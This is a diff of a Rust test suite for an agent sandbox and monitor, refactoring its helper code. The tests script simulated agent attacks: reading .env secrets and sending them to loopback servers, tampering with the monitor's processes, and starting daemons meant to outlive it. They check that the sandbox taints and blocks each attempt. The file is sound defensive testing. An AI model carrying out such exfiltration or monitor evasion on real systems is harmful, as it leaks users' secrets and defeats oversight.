@@ -3,9 +3,9 @@
 //! Network attacks talk to servers this test starts on its own loopback address.
 
 mod common;
+use common::net::{Tcp, Udp};
 use common::*;
 use std::io::Read;
-use std::net::{TcpListener, UdpSocket};
 use std::os::unix::net::UnixListener;
 use std::time::Duration;
 
@@ -107,6 +107,12 @@ fn proc_self_mem_cannot_be_opened_for_writing() {
     assert!(stdout(&o).contains(&want), "{}", show(&o));
 }
 
+/// The number right after the first `key` in `text` (up to the next white
+/// space), if there is one: `good=` in `... good=12 refused=3`.
+fn number_after<T: std::str::FromStr>(text: &str, key: &str) -> Option<T> {
+    text.split(key).nth(1)?.split_whitespace().next()?.parse().ok()
+}
+
 fn assert_race_lost(kind: &str, o: &std::process::Output) {
     let out = stdout(o);
     eprintln!("{kind}: {}", out.trim());
@@ -114,20 +120,10 @@ fn assert_race_lost(kind: &str, o: &std::process::Output) {
     assert!(out.contains("leaked=0"), "{}", show(o));
     // The benign half of the race must have worked at least sometimes, or the
     // test shows nothing.
-    let good: u32 = out
-        .split("good=")
-        .nth(1)
-        .and_then(|s| s.split_whitespace().next())
-        .and_then(|s| s.parse().ok())
-        .unwrap_or(0);
+    let good: u32 = number_after(&out, "good=").unwrap_or(0);
     assert!(good > 0, "{kind}: no benign open succeeded\n{}", show(o));
     // And the malicious half was tried: some open met the secret and was refused.
-    let refused: u32 = out
-        .split("refused=")
-        .nth(1)
-        .and_then(|s| s.split_whitespace().next())
-        .and_then(|s| s.parse().ok())
-        .unwrap_or(0);
+    let refused: u32 = number_after(&out, "refused=").unwrap_or(0);
     assert!(refused > 0, "{kind}: no open met the secret\n{}", show(o));
 }
 
@@ -232,50 +228,6 @@ fn unix_sockets_to_host_daemons_are_refused() {
     assert_eq!(out.matches(": errno=").count(), 3, "{}", show(&o));
     assert!(daemon.accept().is_err(), "the pathname daemon was reached");
     assert!(abs.accept().is_err(), "the abstract daemon was reached");
-}
-
-/// A loopback TCP server on port `port` of `ip`; what it received, read after the
-/// sandbox finished.
-struct Tcp(TcpListener);
-
-impl Tcp {
-    fn new(ip: &str, port: u16) -> Tcp {
-        let l = TcpListener::bind((ip, port)).unwrap_or_else(|e| panic!("binding {ip}:{port}: {e}"));
-        l.set_nonblocking(true).unwrap();
-        Tcp(l)
-    }
-
-    /// Everything every connection sent (connections queue until accepted).
-    fn received(&self) -> String {
-        let mut all = String::new();
-        while let Ok((mut s, _)) = self.0.accept() {
-            s.set_nonblocking(false).unwrap();
-            s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
-            let mut buf = String::new();
-            let _ = s.read_to_string(&mut buf);
-            all.push_str(&buf);
-        }
-        all
-    }
-}
-
-struct Udp(UdpSocket);
-
-impl Udp {
-    fn new(ip: &str, port: u16) -> Udp {
-        let s = UdpSocket::bind((ip, port)).unwrap_or_else(|e| panic!("binding udp {ip}:{port}: {e}"));
-        s.set_nonblocking(true).unwrap();
-        Udp(s)
-    }
-
-    fn received(&self) -> Vec<String> {
-        let mut out = Vec::new();
-        let mut buf = [0u8; 2048];
-        while let Ok(n) = self.0.recv(&mut buf) {
-            out.push(String::from_utf8_lossy(&buf[..n]).into_owned());
-        }
-        out
-    }
 }
 
 fn with_dotenv(name: &str) -> Fixture {
@@ -570,10 +522,7 @@ fn if_the_monitor_dies_the_sandbox_gains_nothing() {
     // The script would outlive the monitor; it must not get to read or write.
     let script =
         "sleep 2; cat ok.txt && echo READ-AFTER-DEATH; echo x > new.txt && echo WROTE-AFTER-DEATH; echo END";
-    let mut cmd = f.command(&[], &["/bin/sh", "-c", script]);
-    cmd.stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let child = cmd.spawn().unwrap();
+    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", script]));
     std::thread::sleep(Duration::from_millis(700));
     // SAFETY: kill(2) with integer arguments touches no memory of ours; the pid is a child this test started (at worst the signal misses).
     unsafe { libc::kill(child.id() as i32, libc::SIGKILL) };
@@ -655,19 +604,15 @@ fn processes_outside_the_sandbox_cannot_be_named_or_tampered_with() {
     ];
     let mut args = vec!["./attack", "pid-tamper"];
     args.extend(targets.iter().map(String::as_str));
-    let mut cmd = f.command(&["--audit-log", audit.to_str().unwrap()], &args);
-    cmd.stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let child = cmd.spawn().unwrap();
+    let child = spawn_piped(f.command(&["--audit-log", audit.to_str().unwrap()], &args));
     let monitor = child.id();
     let before_monitor = observable(monitor);
     std::fs::write(&pidfile, monitor.to_string()).unwrap();
     // While the attack sleeps after tampering, clawless is looked at.
-    let deadline = std::time::Instant::now() + Duration::from_secs(60);
-    while !f.ws.join("tampered").exists() && std::time::Instant::now() < deadline {
-        std::thread::sleep(Duration::from_millis(20));
-    }
-    assert!(f.ws.join("tampered").exists(), "the attack never got to its end");
+    assert!(
+        wait_for_file(&f.ws.join("tampered"), Duration::from_secs(60)),
+        "the attack never got to its end"
+    );
     let after_monitor = observable(monitor);
     // clawless raised its own descriptor limit to the hard one.
     let limits = std::fs::read_to_string(format!("/proc/{monitor}/limits")).unwrap();
@@ -768,15 +713,13 @@ fn nothing_outlives_sigkill_of_clawless() {
     let f = Fixture::new("outlivekill").with_attack();
     let mark = format!("claw-outlivekill-{}", std::process::id());
     let logs = f.path("daemon.log");
-    let mut cmd = f.command(&[], &["./attack", "daemons", &mark, &logs, "wait"]);
-    cmd.stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let child = cmd.spawn().unwrap();
-    let deadline = std::time::Instant::now() + Duration::from_secs(60);
-    while !daemon_logs_running(&logs) && std::time::Instant::now() < deadline {
-        std::thread::sleep(Duration::from_millis(20));
-    }
-    assert!(daemon_logs_running(&logs), "the daemons never ran");
+    let child = spawn_piped(f.command(&[], &["./attack", "daemons", &mark, &logs, "wait"]));
+    assert!(
+        wait_until(Duration::from_secs(60), Duration::from_millis(20), || {
+            daemon_logs_running(&logs)
+        }),
+        "the daemons never ran"
+    );
     assert!(
         processes_marked(&mark).len() >= 3,
         "the command and both daemons run"
@@ -993,12 +936,7 @@ fn blocked_fifo_opens_by_the_hundred_do_not_exhaust_the_monitor() {
             "{line}\n{}",
             show(&o)
         );
-        let ms: u64 = line
-            .split(" in ")
-            .nth(1)
-            .and_then(|r| r.split(' ').next())
-            .and_then(|v| v.parse().ok())
-            .unwrap();
+        let ms: u64 = number_after(line, " in ").unwrap();
         assert!(ms < 10_000, "200 ordinary opens took {ms} ms ({fifo})");
         assert!(
             out.contains("fifo-flood: fifo opens=700 eagain=0"),
@@ -1031,19 +969,9 @@ fn blocked_connects_by_the_hundred_do_not_exhaust_the_monitor() {
         line.starts_with("connect-flood: ordinary opens=200 in "),
         "{line}"
     );
-    let waiting: u32 = line
-        .split("while ")
-        .nth(1)
-        .and_then(|r| r.split(' ').next())
-        .and_then(|v| v.parse().ok())
-        .unwrap();
+    let waiting: u32 = number_after(line, "while ").unwrap();
     assert!(waiting > 512, "the connects must really wait: {line}");
-    let ms: u64 = line
-        .split(" in ")
-        .nth(1)
-        .and_then(|r| r.split(' ').next())
-        .and_then(|v| v.parse().ok())
-        .unwrap();
+    let ms: u64 = number_after(line, " in ").unwrap();
     assert!(ms < 10_000, "200 ordinary opens took {ms} ms");
 }
 
@@ -1065,12 +993,7 @@ fn blocked_sends_by_the_hundred_do_not_exhaust_the_monitor() {
         line.starts_with("send-flood: ordinary opens=200 in ") && line.ends_with("while 600 sends wait"),
         "{line}"
     );
-    let ms: u64 = line
-        .split(" in ")
-        .nth(1)
-        .and_then(|r| r.split(' ').next())
-        .and_then(|v| v.parse().ok())
-        .unwrap();
+    let ms: u64 = number_after(line, " in ").unwrap();
     assert!(ms < 10_000, "200 ordinary opens took {ms} ms");
     assert!(out.contains("send-flood: sends=600 received=all"), "{}", show(&o));
 }
@@ -1088,10 +1011,7 @@ fn blocked_opens_whose_callers_die_do_not_pile_up_in_the_monitor() {
     // The monitor's own blocked opens: where the kernel performs opens (isolated
     // files), --log-denials keeps them with the monitor (every open is seen).
     let extra: &[&str] = if kernel_opens() { &["--log-denials"] } else { &[] };
-    let mut cmd = f.command(extra, &["./attack", "abandon", "./flood", "100"]);
-    cmd.stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let mut child = cmd.spawn().unwrap();
+    let mut child = spawn_piped(f.command(extra, &["./attack", "abandon", "./flood", "100"]));
     let pid = child.id();
     let named = |name: &str| {
         std::fs::read_dir(format!("/proc/{pid}/task"))
@@ -1511,19 +1431,32 @@ fn a_secret_hard_linked_before_the_session_is_still_the_secret() {
     let mut c = f.command(&[], &["./attack", "hold", "tcp", ip, "443", "notes.txt"]);
     c.env("HOME", &home);
     let o = run_with_deadline(c, Duration::from_secs(120));
-    let out = stdout(&o);
+    assert_hold_tainted(&o, &server, "reading the alias");
+}
+
+/// The verdict of `./attack hold tcp IP 443 NAME`, a socket connected and
+/// written before NAME is opened and written again after: the channel worked
+/// (`write before: ok=7`), the open succeeded, the write after it was refused
+/// (`EPIPE`: `why`, what opened it, tainted), and the server got only the first
+/// write.
+fn assert_hold_tainted(o: &std::process::Output, server: &Tcp, why: &str) {
+    let out = stdout(o);
     assert!(
         out.contains("write before: ok=7"),
-        "the channel works\n{}",
-        show(&o)
+        "{why}: the channel works\n{}",
+        show(o)
     );
-    assert!(out.contains("open secret: ok="), "{}", show(&o));
+    assert!(
+        out.contains("open secret: ok="),
+        "{why}: the attack did not open it\n{}",
+        show(o)
+    );
     assert!(
         out.contains("write after: errno=32"),
-        "reading the alias did not taint\n{}",
-        show(&o)
+        "{why} did not taint\n{}",
+        show(o)
     );
-    assert_eq!(server.received(), "before\n");
+    assert_eq!(server.received(), "before\n", "{why}: more reached the server");
 }
 
 /// Runs `./attack hold tcp IP 443 TARGET` with `HOME` set, once `ready` (if any)
@@ -1578,18 +1511,7 @@ fn hold_taints_with(
         "the attack did not run\n{}",
         show(&o)
     );
-    assert!(
-        out.contains("write before: ok=7"),
-        "the channel works\n{}",
-        show(&o)
-    );
-    assert!(out.contains("open secret: ok="), "{}", show(&o));
-    assert!(
-        out.contains("write after: errno=32"),
-        "reading {target} did not taint\n{}",
-        show(&o)
-    );
-    assert_eq!(server.received(), "before\n");
+    assert_hold_tainted(&o, &server, &format!("reading {target}"));
     o
 }
 
@@ -1810,6 +1732,16 @@ fn an_unconnected_udp_socket_used_before_the_taint_sends_nothing_after_it() {
     assert_udp_kept(&server, &o);
 }
 
+/// Writes the policy `source` to `<name>.claw` in the fixture's root (outside
+/// the workspace) and returns its path, for `--policy`. `clawless` compiles a
+/// policy from source with the `clawc` next to it, which must be built.
+fn write_policy(f: &Fixture, name: &str, source: &str) -> String {
+    clawc_is_built();
+    let file = f.root.join(format!("{name}.claw"));
+    std::fs::write(&file, source).unwrap();
+    file.display().to_string()
+}
+
 /// A socket connected to an allowed endpoint keeps what the agent made it with:
 /// a blocking socket stays blocking and its connect waits for the answer (0;
 /// `ECONNREFUSED` where nothing listens), a non-blocking close-on-exec one stays
@@ -1826,13 +1758,8 @@ fn a_connected_socket_keeps_its_blocking_mode_and_close_on_exec() {
         "allow connect, send dns;",
         &format!("allow connect endpoint tcp \"{ip}\" port 443..444;"),
     );
-    let file = f.root.join("sockmode.claw");
-    std::fs::write(&file, policy).unwrap();
-    clawc_is_built();
-    let o = f.run(
-        &["--policy", file.to_str().unwrap()],
-        &["./attack", "sockmode", ip, "443"],
-    );
+    let file = write_policy(&f, "sockmode", &policy);
+    let o = f.run(&["--policy", &file], &["./attack", "sockmode", ip, "443"]);
     let out = stdout(&o);
     assert!(out.contains("blocking connect: ok=0"), "{}", show(&o));
     assert!(out.contains("blocking: nonblock=0 cloexec=0"), "{}", show(&o));
@@ -1939,13 +1866,8 @@ fn the_readmes_first_policy_connects_and_talks() {
     let rule = "allow read, write, append, visible workspace;";
     assert!(policy.contains(rule), "{policy}");
     let policy = policy.replace(rule, "allow read, write, append, visible, exec workspace;");
-    let file = f.root.join("readme.claw");
-    std::fs::write(&file, policy).unwrap();
-    clawc_is_built();
-    let o = f.run(
-        &["--policy", file.to_str().unwrap()],
-        &["./attack", "tcp", ip, "443", "hello"],
-    );
+    let file = write_policy(&f, "readme", &policy);
+    let o = f.run(&["--policy", &file], &["./attack", "tcp", ip, "443", "hello"]);
     assert!(stdout(&o).contains("tcp send: ok=5"), "{}", show(&o));
     assert_eq!(server.received(), "hello");
 }
@@ -1981,11 +1903,9 @@ fn a_frame_corked_before_the_taint_is_dropped_not_sent_when_uncorked_after() {
     let ip = "127.77.0.40";
     let server = Udp::new(ip, 53);
     let f = with_dotenv("uncork");
-    let file = f.root.join("uncork.claw");
-    std::fs::write(&file, UNCORK_POLICY).unwrap();
-    clawc_is_built();
+    let file = write_policy(&f, "uncork", UNCORK_POLICY);
     let o = f.run(
-        &["--policy", file.to_str().unwrap()],
+        &["--policy", &file],
         &["./attack", "netleak", "udp-cork", ip, "53", ".env"],
     );
     let out = stdout(&o);
@@ -2001,6 +1921,34 @@ fn a_frame_corked_before_the_taint_is_dropped_not_sent_when_uncorked_after() {
     assert_udp_kept(&server, &o);
 }
 
+/// Makes the command's child start with each `(from, to)` of `fds` at `to`
+/// (`dup2` between fork and exec): `clawless` inherits the test's sockets there.
+fn inherit_at(c: &mut std::process::Command, fds: &[(i32, i32)]) {
+    use std::os::unix::process::CommandExt;
+    let fds = fds.to_vec();
+    // SAFETY: only dup2 (async-signal-safe) between fork and exec.
+    unsafe {
+        c.pre_exec(move || {
+            for &(from, to) in &fds {
+                if libc::dup2(from, to) < 0 {
+                    return Err(std::io::Error::last_os_error());
+                }
+            }
+            Ok(())
+        });
+    }
+}
+
+/// Accepts one connection on `l` and reads what it sends until it closes
+/// (or 5 s pass without a byte).
+fn read_all(l: &UnixListener) -> String {
+    let (mut end, _) = l.accept().unwrap();
+    end.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+    let mut got = String::new();
+    let _ = end.read_to_string(&mut got);
+    got
+}
+
 /// A unix socket at standard input to a daemon the policy names (allowed before
 /// the taint, not after) is revoked like any inherited socket; one at standard
 /// error to a peer no rule names is the launcher's channel (journald's stdout
@@ -2009,7 +1957,6 @@ fn a_frame_corked_before_the_taint_is_dropped_not_sent_when_uncorked_after() {
 #[test]
 fn a_standard_stream_on_a_socket_to_a_daemon_the_policy_names_is_revoked() {
     use std::os::fd::AsRawFd;
-    use std::os::unix::process::CommandExt;
     let f = with_dotenv("stdiodaemon");
     let daemon_path = f.root.join("daemon.sock");
     let policy = UNCORK_POLICY
@@ -2021,39 +1968,17 @@ fn a_standard_stream_on_a_socket_to_a_daemon_the_policy_names_is_revoked() {
                 daemon_path.display()
             ),
         );
-    let file = f.root.join("stdiodaemon.claw");
-    std::fs::write(&file, policy).unwrap();
-    clawc_is_built();
+    let file = write_policy(&f, "stdiodaemon", &policy);
     let daemon = UnixListener::bind(&daemon_path).unwrap();
     let journal = UnixListener::bind(f.root.join("journal.sock")).unwrap();
     let u0 = std::os::unix::net::UnixStream::connect(&daemon_path).unwrap();
     let u2 = std::os::unix::net::UnixStream::connect(f.root.join("journal.sock")).unwrap();
     let fds = [(u0.as_raw_fd(), 0), (u2.as_raw_fd(), 2)];
-    let mut c = f.command(
-        &["--policy", file.to_str().unwrap()],
-        &["./attack", "inherited", ".env", "0", "2"],
-    );
-    // SAFETY: only dup2 (async-signal-safe) between fork and exec.
-    unsafe {
-        c.pre_exec(move || {
-            for (from, to) in fds {
-                if libc::dup2(from, to) < 0 {
-                    return Err(std::io::Error::last_os_error());
-                }
-            }
-            Ok(())
-        });
-    }
+    let mut c = f.command(&["--policy", &file], &["./attack", "inherited", ".env", "0", "2"]);
+    inherit_at(&mut c, &fds);
     let o = run_with_deadline(c, Duration::from_secs(60));
     drop((u0, u2));
     let out = stdout(&o);
-    let read_all = |l: &UnixListener| {
-        let (mut end, _) = l.accept().unwrap();
-        end.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
-        let mut got = String::new();
-        let _ = end.read_to_string(&mut got);
-        got
-    };
     assert!(out.contains("write before fd 0: ok=7"), "{}", show(&o));
     assert!(out.contains("open secret: ok="), "{}", show(&o));
     assert!(out.contains("write after fd 0: errno=32"), "{}", show(&o));
@@ -2078,13 +2003,8 @@ fn the_agents_own_loopback_server_stays_inside() {
             "allow connect, send dns;",
             "allow net_server;\n        allow bind endpoint tcp \"127.77.0.41\" port 9000;",
         );
-    let file = f.root.join("selfserver.claw");
-    std::fs::write(&file, policy).unwrap();
-    clawc_is_built();
-    let o = f.run(
-        &["--policy", file.to_str().unwrap()],
-        &["./attack", "self-server", ip, "9000"],
-    );
+    let file = write_policy(&f, "selfserver", &policy);
+    let o = f.run(&["--policy", &file], &["./attack", "self-server", ip, "9000"]);
     let out = stdout(&o);
     if mediated() {
         // One loopback, the host's: the port is taken there, and the policy does
@@ -2293,13 +2213,11 @@ policy permissive_net {
 /// [`netgap`] under [`PERMISSIVE_NET`]: the calls are allowed, the pre-taint
 /// bytes arrive, and revocation keeps what is written after from arriving.
 fn netgap_monitored(how: &str, ip: &str, udp: bool) {
-    clawc_is_built();
     let port = if udp { 53 } else { 443 };
     let tcp = (!udp).then(|| Tcp::new(ip, port));
     let dgram = udp.then(|| Udp::new(ip, port));
     let f = with_dotenv(&format!("gapm-{how}"));
-    std::fs::write(f.root.join("net.claw"), PERMISSIVE_NET).unwrap();
-    let pol = f.root.join("net.claw").display().to_string();
+    let pol = write_policy(&f, "net", PERMISSIVE_NET);
     let p = port.to_string();
     let o = f.run(&["--policy", &pol], &["./attack", "netgap", how, ip, &p, ".env"]);
     let out = stdout(&o);
@@ -2377,7 +2295,6 @@ fn sockets_no_endpoint_rule_describes_are_refused() {
 #[test]
 fn inherited_sockets_are_revoked() {
     use std::os::fd::AsRawFd;
-    use std::os::unix::process::CommandExt;
     let ip = "127.77.2.41";
     let allowed = Tcp::new(ip, 443);
     let never = Tcp::new(ip, 8443);
@@ -2398,32 +2315,19 @@ fn inherited_sockets_are_revoked() {
         (u2.as_raw_fd(), 2),
     ];
     let mut c = f.command(&[], &["./attack", "inherited", ".env", "0", "3", "4", "5"]);
-    // SAFETY: only dup2 (async-signal-safe) between fork and exec.
-    unsafe {
-        c.pre_exec(move || {
-            for (from, to) in fds {
-                if libc::dup2(from, to) < 0 {
-                    return Err(std::io::Error::last_os_error());
-                }
-            }
-            Ok(())
-        });
-    }
+    inherit_at(&mut c, &fds);
     let o = run_with_deadline(c, Duration::from_secs(60));
     drop((a0, a3, n4, u5, u2));
     let out = stdout(&o);
     assert!(out.contains("write before fd 5: errno=32"), "{}", show(&o));
     // Nothing reached the daemon at 5; what clawless wrote to standard error did.
-    let read_all = |what: &str| {
-        let (mut end, _) = daemon.accept().unwrap();
-        end.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
-        let mut got = String::new();
-        let _ = end.read_to_string(&mut got);
+    let read_logged = |what: &str| {
+        let got = read_all(&daemon);
         eprintln!("{what}: {got:?}");
         got
     };
-    assert_eq!(read_all("at 5"), "");
-    let err = read_all("standard error");
+    assert_eq!(read_logged("at 5"), "");
+    let err = read_logged("standard error");
     assert!(
         err.contains("inherited socket to tcp 127.77.2.41:8443 shut down"),
         "{err:?}"
@@ -2510,23 +2414,17 @@ fn an_object_given_a_secret_name_is_read_by_the_naming() {
 /// old descriptor and tries to send it. The naming must have tainted.
 fn scaffold_naming_taints(f: &Fixture, ip: &str, how: &str, name: &str, written: &str) {
     let server = Tcp::new(ip, 443);
-    let mut cmd = f.command(&[], &["./attack", "scaffold", how, name, ip, "443"]);
-    cmd.stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let child = cmd.spawn().unwrap();
+    let child = spawn_piped(f.command(&[], &["./attack", "scaffold", how, name, ip, "443"]));
     let start = std::time::Instant::now();
-    let mut got = String::new();
-    while start.elapsed() < Duration::from_secs(60) && !got.contains("before") {
-        got.push_str(&server.received());
-        std::thread::sleep(Duration::from_millis(10));
-    }
+    let got = server.wait_for("before", Duration::from_secs(60));
     assert_eq!(got, "before", "{how}: the channel did not work before the naming");
-    while start.elapsed() < Duration::from_secs(60) && !f.ws.join("named").exists() {
-        std::thread::sleep(Duration::from_millis(10));
-    }
+    // Within the same minute.
+    wait_for_file(
+        &f.ws.join("named"),
+        Duration::from_secs(60).saturating_sub(start.elapsed()),
+    );
     std::fs::write(f.ws.join(written), "API_KEY=FILLED-IN-BY-THE-USER\n").unwrap();
-    std::fs::write(f.ws.join("go"), "").unwrap();
-    let o = wait_with_deadline(child, Duration::from_secs(120));
+    let o = go_and_wait(f, child);
     let out = stdout(&o);
     assert!(out.contains("scaffold naming: ok"), "{how}\n{}", show(&o));
     assert!(
@@ -2550,46 +2448,26 @@ fn a_secret_created_outside_during_the_session_taints_when_read() {
     let script = format!(
         "./attack tcp {ip} 443 before; echo started; while [ ! -e go ]; do sleep 0.01; done; cat .env >/dev/null && echo read; ./attack tcp {ip} 443 STOLEN"
     );
-    let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
-    cmd.stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let child = cmd.spawn().unwrap();
+    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
     let pid = child.id();
     // Wait until the sandbox runs (its first send arrived).
-    let start = std::time::Instant::now();
-    let mut got = String::new();
-    while start.elapsed() < Duration::from_secs(60) {
-        got.push_str(&server.received());
-        if got.contains("before") {
-            break;
-        }
-        std::thread::sleep(Duration::from_millis(10));
-    }
+    let got = server.wait_for("before", Duration::from_secs(60));
     assert_eq!(got, "before", "the sandbox did not start");
     std::fs::write(f.ws.join(".env"), "API_TOKEN=OUTSIDE\n").unwrap();
     let made = std::time::Instant::now();
     if kernel_opens() {
         use std::os::unix::fs::MetadataExt;
-        let ino = format!("ino:{:x} ", std::fs::metadata(f.ws.join(".env")).unwrap().ino());
-        let armed = |pid: u32| {
-            std::fs::read_dir(format!("/proc/{pid}/fdinfo"))
-                .into_iter()
-                .flatten()
-                .flatten()
-                .any(|e| {
-                    std::fs::read_to_string(e.path())
-                        .is_ok_and(|t| t.lines().any(|l| l.starts_with("fanotify ") && l.contains(&ino)))
-                })
-        };
-        while !armed(pid) && made.elapsed() < Duration::from_secs(5) {
-            std::thread::sleep(Duration::from_micros(200));
-        }
+        let ino = std::fs::metadata(f.ws.join(".env")).unwrap().ino();
+        wait_until(
+            Duration::from_secs(5).saturating_sub(made.elapsed()),
+            Duration::from_micros(200),
+            || fanotify_marks(pid, ino),
+        );
         let window = made.elapsed();
         eprintln!("tripwire armed {window:?} after the file was created outside");
         assert!(window < Duration::from_secs(1), "the watcher took {window:?}");
     }
-    std::fs::write(f.ws.join("go"), "").unwrap();
-    let o = wait_with_deadline(child, Duration::from_secs(120));
+    let o = go_and_wait(&f, child);
     let out = stdout(&o);
     assert!(out.contains("read"), "the read did not happen\n{}", show(&o));
     assert!(out.contains("socket: errno=1"), "not tainted\n{}", show(&o));
@@ -2664,6 +2542,25 @@ fn leak_attempt(f: &Fixture, ip: &str, how: &str, path: &str, env: &[(&str, &str
         show(&o)
     );
     o
+}
+
+/// Tells the agent of `child` to go on (its script waits for the file `go` in
+/// the workspace) and waits for the run to end (at most 120 s).
+fn go_and_wait(f: &Fixture, child: std::process::Child) -> std::process::Output {
+    std::fs::write(f.ws.join("go"), "").unwrap();
+    wait_with_deadline(child, Duration::from_secs(120))
+}
+
+/// Writes `bytes` at the start of the file at `path` without truncating it or
+/// making a new one: the user's tool writing a secret into a file in place (the
+/// inode the agent holds, or one a link leads to, stays the same).
+fn write_in_place(path: &std::path::Path, bytes: &[u8]) {
+    use std::os::unix::fs::FileExt;
+    let w = std::fs::OpenOptions::new()
+        .write(true)
+        .open(path)
+        .unwrap_or_else(|e| panic!("opening {} to write in place: {e}", path.display()));
+    w.write_all_at(bytes, 0).unwrap();
 }
 
 fn kernel_decided(o: &std::process::Output) {
@@ -2803,42 +2700,16 @@ fn isolated_files_the_watcher_survives_a_fifo_exchanged_for_a_directory() {
     let script = format!(
         "mkdir d && mkfifo f && ./attack fifoswap d f 20000; ./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; while [ ! -e go ]; do sleep 0.01; done; ./attack isoleak plain .env.local {ip} 443"
     );
-    let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
-    cmd.stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let child = cmd.spawn().unwrap();
+    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", &script]));
     let pid = child.id();
-    let start = std::time::Instant::now();
-    let mut got = String::new();
-    while start.elapsed() < Duration::from_secs(120) && !got.contains("PRE-TAINT") {
-        got.push_str(&server.received());
-        std::thread::sleep(Duration::from_millis(10));
-    }
-    assert!(
-        got.starts_with("PRE-TAINT-CHANNEL-OK"),
-        "the sandbox did not get to its send: {got:?}"
-    );
+    server.wait_pre_taint("watcher-fifo-wedge");
     std::fs::write(f.ws.join(".env.local"), "USER-SECRET-B-created-outside-99\n").unwrap();
     if kernel_opens() {
         use std::os::unix::fs::MetadataExt;
-        let ino = format!(
-            "ino:{:x} ",
-            std::fs::metadata(f.ws.join(".env.local")).unwrap().ino()
-        );
-        let armed = || {
-            std::fs::read_dir(format!("/proc/{pid}/fdinfo"))
-                .into_iter()
-                .flatten()
-                .flatten()
-                .any(|e| {
-                    std::fs::read_to_string(e.path())
-                        .is_ok_and(|t| t.lines().any(|l| l.starts_with("fanotify ") && l.contains(&ino)))
-                })
-        };
+        let ino = std::fs::metadata(f.ws.join(".env.local")).unwrap().ino();
+        let armed = || fanotify_marks(pid, ino);
         let made = std::time::Instant::now();
-        while !armed() && made.elapsed() < Duration::from_secs(30) {
-            std::thread::sleep(Duration::from_millis(1));
-        }
+        wait_until(Duration::from_secs(30), Duration::from_millis(1), armed);
         eprintln!(
             "the new secret was marked {:?} after its creation",
             made.elapsed()
@@ -2858,22 +2729,13 @@ fn isolated_files_the_watcher_survives_a_fifo_exchanged_for_a_directory() {
             "the watcher did not mark the new secret within 30 s (wedged?): {threads:?}"
         );
     }
-    std::fs::write(f.ws.join("go"), "").unwrap();
-    let o = wait_with_deadline(child, Duration::from_secs(120));
-    let out = stdout(&o);
-    assert!(out.contains("fifoswap: 20000 of 20000 exchanges"), "{}", show(&o));
+    let o = go_and_wait(&f, child);
     assert!(
-        out.contains("isoleak read: 33"),
-        "the read did not happen\n{}",
+        stdout(&o).contains("fifoswap: 20000 of 20000 exchanges"),
+        "{}",
         show(&o)
     );
-    assert!(
-        !server.received().contains("LEAK:"),
-        "the secret left\n{}",
-        show(&o)
-    );
-    assert!(out.contains("socket: errno="), "not tainted\n{}", show(&o));
-    kernel_decided(&o);
+    assert_isoleak_read_but_tainted(&o, &server, "isoleak read: 33", "watcher-fifo-wedge");
 }
 
 /// walk-bound-cache-poison: discovery that reaches its entry bound keeps opens
@@ -3030,15 +2892,11 @@ fn isolated_files_outside_opens_of_a_tripwire_are_answered_while_the_agent_flood
     std::fs::write(f.ws.join(".env"), "A=1\n").unwrap();
     let script = "cat .env >/dev/null && touch flooding; \
         for i in 1 2 3; do (n=0; while [ $n -lt 400 ]; do cat .env .env .env .env >/dev/null; n=$((n+1)); done) & done; wait; echo flooded";
-    let mut cmd = f.command(&[], &["/bin/sh", "-c", script]);
-    cmd.stdout(std::process::Stdio::piped())
-        .stderr(std::process::Stdio::piped());
-    let child = cmd.spawn().unwrap();
-    let start = std::time::Instant::now();
-    while !f.ws.join("flooding").exists() && start.elapsed() < Duration::from_secs(60) {
-        std::thread::sleep(Duration::from_millis(5));
-    }
-    assert!(f.ws.join("flooding").exists(), "the agent did not start flooding");
+    let child = spawn_piped(f.command(&[], &["/bin/sh", "-c", script]));
+    assert!(
+        wait_for_file(&f.ws.join("flooding"), Duration::from_secs(60)),
+        "the agent did not start flooding"
+    );
     let mut worst = Duration::ZERO;
     for _ in 0..200 {
         let t = std::time::Instant::now();
@@ -3056,13 +2914,11 @@ fn isolated_files_outside_opens_of_a_tripwire_are_answered_while_the_agent_flood
     );
 }
 
-/// Is some fanotify group of process `pid` marking the inode of `path`?
-fn marked_by(pid: u32, path: &std::path::Path) -> bool {
-    use std::os::unix::fs::MetadataExt;
-    let Ok(m) = std::fs::metadata(path) else {
-        return false;
-    };
-    let ino = format!("ino:{:x} ", m.ino());
+/// Does some fanotify group of process `pid` (a `clawless` run: its tripwires
+/// and the watcher's marks) mark inode `ino`? Read from its descriptors'
+/// `/proc/PID/fdinfo` (`fanotify ino:HEX ...` lines).
+fn fanotify_marks(pid: u32, ino: u64) -> bool {
+    let ino = format!("ino:{ino:x} ");
     std::fs::read_dir(format!("/proc/{pid}/fdinfo"))
         .into_iter()
         .flatten()
@@ -3071,6 +2927,19 @@ fn marked_by(pid: u32, path: &std::path::Path) -> bool {
             std::fs::read_to_string(e.path())
                 .is_ok_and(|t| t.lines().any(|l| l.starts_with("fanotify ") && l.contains(&ino)))
         })
+}
+
+/// Is some fanotify group of process `pid` marking the inode of `path` (a
+/// symlink followed)? No, if `path` names nothing.
+fn marked_by(pid: u32, path: &std::path::Path) -> bool {
+    use std::os::unix::fs::MetadataExt;
+    std::fs::metadata(path).is_ok_and(|m| fanotify_marks(pid, m.ino()))
+}
+
+/// Waits (every millisecond, up to `limit`) until [`marked_by`] holds; returns
+/// whether it does (the caller asserts where the mark must have come).
+fn wait_marked_by(pid: u32, path: &std::path::Path, limit: Duration) -> bool {
+    wait_until(limit, Duration::from_millis(1), || marked_by(pid, path))
 }
 
 /// watcher-window-early-open (red team round 4), made deterministic: the agent
@@ -3090,25 +2959,14 @@ fn early_hold_taints(how: &str, ip: &str) {
